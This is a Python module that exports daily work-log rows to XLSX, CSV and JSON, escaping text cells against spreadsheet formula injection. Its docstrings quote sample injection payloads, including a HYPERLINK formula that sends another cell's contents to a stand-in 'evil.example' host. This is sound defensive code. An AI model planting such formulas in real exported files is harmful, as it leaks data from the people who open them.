"""Export of stored daily rows, and the one guard every spreadsheet export uses against formula injection.

:func:`escape_formula` is applied to every text cell written by an export (this module, the problem report of
``core.ingest``, the reports and statements): text a spreadsheet would run as a formula gets a leading
apostrophe. :func:`export_logs` reads the caller's rows with the canonical field names and storage units;
:func:`frame_to_xlsx`, :func:`frame_to_csv` and :func:`frame_to_records` write any DataFrame.
"""
from __future__ import annotations

import datetime as dt
import io

import pandas as pd
from sqlalchemy import Engine

from core.convert import py
from core.schema import DAILY_FIELDS
from core.scope import Scope
from core.store.logs import read_logs

__all__ = ["EXPORT_COLUMNS", "FORMULA_PREFIXES", "escape_formula", "export_logs", "frame_to_csv", "frame_to_records",
           "frame_to_xlsx"]

EXPORT_COLUMNS = [f.name for f in DAILY_FIELDS]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet may take as the start of a formula: = + - @, tab, CR, LF, and their full-width forms
(＝ ＋ － ＠, which some spreadsheet programs convert when a Chinese input method typed them)."""


def escape_formula(value):
    """Text that a spreadsheet would run as a formula gets a leading apostrophe; numbers, dates and other values
    are returned untouched.

    A formula is text that starts with one of :data:`FORMULA_PREFIXES`, also after leading spaces (several
    spreadsheet programs strip them when they open a CSV file), e.g. ``=HYPERLINK("http://evil.example")``,
    ``  =1+1``, ``@SUM(A1)``, ``-2+3``. The apostrophe makes Excel, WPS and LibreOffice show the text as it was."""
    if isinstance(value, str) and value.lstrip(" \u3000").startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def export_logs(engine: Engine, scope: Scope, start=None, end=None, team: str | None = None) -> pd.DataFrame:
    """Stored daily rows in the caller's scope with the canonical field names (``core.schema.DAILY_FIELDS``
    order: date, employee_id, manager_name, team, metrics, notes) and the storage units."""
    df = read_logs(engine, scope, start=start, end=end, team=team)
    df = df[EXPORT_COLUMNS].copy()
    df["date"] = df["date"].dt.date
    return df.reset_index(drop=True)


def frame_to_xlsx(df: pd.DataFrame, sheet: str = "daily_logs") -> bytes:
    """A DataFrame as .xlsx; every text cell and header is escaped against formula injection."""
    # openpyxl takes ~0.2 s to import: loaded only when a workbook is written, not with the package
    from openpyxl import Workbook
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])
    ws.append([escape_formula(str(c)) for c in df.columns])
    for rec in df.itertuples(index=False, name=None):
        ws.append([escape_formula(py(v)) for v in rec])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def frame_to_csv(df: pd.DataFrame) -> bytes:
    """THE CSV writer of the application: a DataFrame as UTF-8 CSV with a BOM (Excel opens Chinese text
    correctly); every text cell and every header is formula-escaped, whatever the column's dtype (object,
    string, category), so a value such as ``=HYPERLINK("http://evil.example/?"&C2,"x")`` is written as text."""
    out = pd.DataFrame({i: _escaped_column(df.iloc[:, i]) for i in range(df.shape[1])}, index=df.index)
    out.columns = [escape_formula(str(c)) for c in df.columns]
    return out.to_csv(index=False).encode("utf-8-sig")


def _escaped_column(col: pd.Series) -> pd.Series:
    if pd.api.types.is_numeric_dtype(col) or pd.api.types.is_datetime64_any_dtype(col):
        return col
    return col.astype(object).map(escape_formula)


def frame_to_records(df: pd.DataFrame) -> list[dict]:
    """JSON-ready rows: dates as ISO text, NaN as null."""
    recs = []
    for rec in df.to_dict("records"):
        row = {}
        for k, v in rec.items():
            v = py(v)
            if isinstance(v, (dt.date, dt.datetime)):
                v = v.isoformat()
            row[k] = v
        recs.append(row)
    return recs
